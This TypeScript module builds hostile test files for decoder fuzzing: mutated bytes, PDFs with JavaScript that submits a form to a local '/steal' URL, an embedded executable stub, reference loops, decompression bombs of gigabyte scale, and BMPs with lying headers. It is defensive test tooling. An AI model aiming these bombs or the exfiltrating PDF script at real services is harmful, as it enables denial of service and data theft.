/**
 * Hostile files for decoder fuzzing: byte mutations of real files (truncations, flipped bytes,
 * header fields that lie), hand-made PDFs that carry JavaScript, embedded files, reference
 * loops, or claim absurd page counts and sizes, decompression bombs, BMPs whose headers lie,
 * and recordings that are not what their first bytes say.
 */
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import fc from 'fast-check';

export type Mutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'flip'; offsets: number[]; xor: number }
  | { kind: 'field'; offset: number; value: number }
  | { kind: 'append'; junk: Uint8Array };

/** Mutations of a file of `size` bytes; header fields and flips favour the first 1 KiB, where the lies hurt. */
export function mutations(size: number): fc.Arbitrary<Mutation> {
  const header = Math.min(size, 1024);
  return fc.oneof(
    fc.integer({ min: 0, max: size - 1 }).map((at) => ({ kind: 'truncate' as const, at })),
    fc
      .record({ offsets: fc.array(fc.integer({ min: 0, max: header - 1 }), { minLength: 1, maxLength: 8 }), xor: fc.integer({ min: 1, max: 255 }) })
      .map((m) => ({ kind: 'flip' as const, ...m })),
    fc
      .record({ offset: fc.integer({ min: 0, max: Math.max(0, Math.min(size, 128) - 4) }), value: fc.constantFrom(0, 1, 0x7fffffff, 0xffffffff, 0x10000, 65_535) })
      .map((m) => ({ kind: 'field' as const, ...m })),
    fc.uint8Array({ minLength: 1, maxLength: 64 }).map((junk) => ({ kind: 'append' as const, junk })),
  );
}

export function applyMutation(bytes: Buffer, mutation: Mutation): Buffer {
  switch (mutation.kind) {
    case 'truncate':
      return bytes.subarray(0, mutation.at);
    case 'flip': {
      const copy = Buffer.from(bytes);
      for (const offset of mutation.offsets) copy[offset] = copy[offset]! ^ mutation.xor;
      return copy;
    }
    case 'field': {
      const copy = Buffer.from(bytes);
      copy.writeUInt32LE(mutation.value >>> 0, mutation.offset);
      return copy;
    }
    case 'append':
      return Buffer.concat([bytes, mutation.junk]);
  }
}

/** A PDF of `objects` (numbered from 1, the first the catalog), with a correct xref table. */
export function pdf(objects: string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/** Each answers 200 with nothing run or extracted, or a 4xx naming the file. */
export const HOSTILE_PDFS: Record<string, Buffer> = {
  javascript: pdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    PAGE,
    "<< /S /JavaScript /JS (app.alert('x'); this.submitForm('http://127.0.0.1:9/steal');) >>",
  ]),
  'embedded-file': pdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    PAGE,
    '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream',
  ]),
  'huge-page-count': pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>', PAGE]),
  'huge-page-size': pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 >>',
  ]),
  'page-tree-loop': pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>', '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>']),
  'reference-loop': pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox 4 0 R >>', '5 0 R', '4 0 R']),
  'xref-prev-loop': xrefPointingAtItself(pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE])),
};

/** The PDF with its trailer's /Prev naming its own xref table: a reader that follows /Prev blindly never stops. */
function xrefPointingAtItself(file: Buffer): Buffer {
  const text = file.toString('latin1');
  const xref = /startxref\n(\d+)/.exec(text)![1]!;
  return Buffer.from(text.replace('/Root 1 0 R >>', `/Root 1 0 R /Prev ${xref} >>`), 'latin1');
}

/**
 * A one-page PDF whose only image, `side` × `side` grey pixels, is a run of one byte deflated:
 * at 16000 a file of about 250 KB that pdf.js would decode to a gigabyte of RGBA.
 */
export function imageBombPdf(side: number): Buffer {
  const pixels = deflateSync(Buffer.alloc(side * side, 0xff), { level: 9 });
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>',
    `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length ${pixels.length} >>\nstream\n${pixels.toString('latin1')}\nendstream`,
    '<< /Length 30 >>\nstream\nq 595 0 0 842 0 0 cm /Im1 Do Q\nendstream',
  ]);
}

/**
 * A one-page PDF whose 100 × 100 image is a JPEG whose own header says `side` × `side`: pdf.js
 * checks the dictionary's size against maxImageSize, then decodes the JPEG at the size it claims.
 * Every block of the colour JPEG is "no change, end of block", one bit each by its Huffman
 * tables, so its scan is zero bytes, and deflated the file stays a few KB (24000: 576 MP).
 */
export function jpegSizeBombPdf(side: number): Buffer {
  const segment = (marker: number, body: number[]) => Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body]);
  const oneCodeOfLengthOne = [1, ...new Array<number>(15).fill(0), 0];
  const jpeg = Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...new Array<number>(64).fill(1)]),
    segment(0xc0, [8, side >> 8, side & 0xff, side >> 8, side & 0xff, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]),
    segment(0xc4, [0x00, ...oneCodeOfLengthOne]),
    segment(0xc4, [0x10, ...oneCodeOfLengthOne]),
    segment(0xda, [3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 63, 0]),
    Buffer.alloc(Math.ceil(((side / 8) * (side / 8) * 3 * 2) / 8)),
    Buffer.from([0xff, 0xd9]),
  ]);
  const stream = deflateSync(jpeg, { level: 9 });
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>',
    `<< /Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /DCTDecode] /Length ${stream.length} >>\nstream\n${stream.toString('latin1')}\nendstream`,
    '<< /Length 30 >>\nstream\nq 595 0 0 842 0 0 cm /Im1 Do Q\nendstream',
  ]);
}

/**
 * A one-page PDF whose content stream inflates to `mib` MiB of spaces (1024: a gigabyte from
 * about 1 MB): deflated one MiB at a time with the dictionary reset between, so every MiB is the
 * same compressed block and the whole is never held.
 */
export function contentBombPdf(mib: number): Buffer {
  const MiB = 1024 * 1024;
  const block = deflateRawSync(Buffer.alloc(MiB, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const length = BigInt(mib * MiB);
  // Adler-32 of `length` spaces: a = 1 + 32·n, b = n + 32·n(n+1)/2, both mod 65521.
  const a = (1n + 32n * length) % 65521n;
  const b = (length + (32n * length * (length + 1n)) / 2n) % 65521n;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(Number((b << 16n) | a));
  const stream = Buffer.concat([Buffer.from([0x78, 0xda]), ...new Array<Buffer>(mib).fill(block), deflateRawSync(Buffer.alloc(0)), adler]);
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    `<< /Filter /FlateDecode /Length ${stream.length} >>\nstream\n${stream.toString('latin1')}\nendstream`,
  ]);
}

interface BmpFields {
  width: number;
  height: number;
  bitDepth?: number;
  compression?: number;
  colours?: number;
}

/** A BITMAPINFOHEADER BMP with these header fields (and a grey palette when paletted), followed by `pixels`. */
export function bmpWith(fields: BmpFields, pixels: Buffer): Buffer {
  const { width, height, bitDepth = 24, compression = 0, colours = 0 } = fields;
  const palette = bitDepth < 15 ? Buffer.alloc(Math.min(colours || 2 ** bitDepth, 256) * 4, 0x80) : Buffer.alloc(0);
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + palette.length + pixels.length, 2);
  header.writeUInt32LE(54 + palette.length, 10);
  header.writeUInt32LE(40, 14);
  header.writeUInt32LE(width >>> 0, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(bitDepth, 28);
  header.writeUInt32LE(compression, 30);
  header.writeUInt32LE(pixels.length, 34);
  header.writeUInt32LE(colours >>> 0, 46);
  return Buffer.concat([header, palette, pixels]);
}

/** A 24-bit BMP of `width` × `height` grey pixels (no fixture: sharp cannot write BMP). */
export function bmp(width: number, height: number): Buffer {
  return bmpWith({ width, height }, Buffer.alloc(Math.ceil((width * 3) / 4) * 4 * height, 0x80));
}

const RLE8 = 1;
/** RLE8 runs of 255 pixels of colour 0, `runs` times, then the end-of-bitmap marker. */
const rleRuns = (runs: number) => Buffer.concat([Buffer.from(Array.from({ length: runs }, () => [255, 0]).flat()), Buffer.from([0, 1])]);

/** BMPs whose headers lie, with the status each must get: 413 over the pixel limit, 400 unreadable, 200 when it decodes harmlessly. */
export const HOSTILE_BMPS: Record<string, { bytes: Buffer; status: number }> = {
  'huge-declared-size': { bytes: bmpWith({ width: 100_000, height: 100_000 }, Buffer.alloc(64)), status: 413 },
  'width-negative': { bytes: bmpWith({ width: -1, height: 10 }, Buffer.alloc(64)), status: 413 },
  'rle8-bomb': { bytes: bmpWith({ width: 60_000, height: 60_000, bitDepth: 8, compression: RLE8 }, rleRuns(4)), status: 413 },
  'rle8-runs-past-the-image': { bytes: bmpWith({ width: 64, height: 48, bitDepth: 8, compression: RLE8 }, rleRuns(10_000)), status: 200 },
  'truncated-pixels': { bytes: bmpWith({ width: 2000, height: 2000 }, Buffer.alloc(1000)), status: 400 },
  'palette-larger-than-its-depth': { bytes: bmpWith({ width: 64, height: 48, bitDepth: 8, colours: 0x7fffffff }, Buffer.alloc(64 * 48)), status: 400 },
  'unknown-bit-depth': { bytes: bmpWith({ width: 64, height: 48, bitDepth: 7 }, Buffer.alloc(64 * 48)), status: 400 },
};

/** An ID3v2 tag (empty), the start of a file sniffed as MP3 whatever follows it. */
const ID3_TAG = Buffer.concat([Buffer.from('ID3\x04\x00\x00\x00\x00\x00\x0a', 'latin1'), Buffer.alloc(10)]);

/** `bytes` behind an ID3 tag: sniffed as MP3, while a probing ffmpeg skips the tag and reads what follows as its own format. */
export function behindId3Tag(bytes: Buffer): Buffer {
  return Buffer.concat([ID3_TAG, bytes]);
}
